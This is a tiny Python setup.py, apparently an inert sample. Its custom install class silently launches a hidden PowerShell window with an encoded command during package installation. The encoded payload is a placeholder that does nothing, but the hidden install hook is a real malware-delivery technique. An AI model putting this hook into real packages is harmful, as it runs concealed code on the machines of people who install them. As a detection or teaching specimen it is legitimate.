from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import subprocess
        subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", shell=True)
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
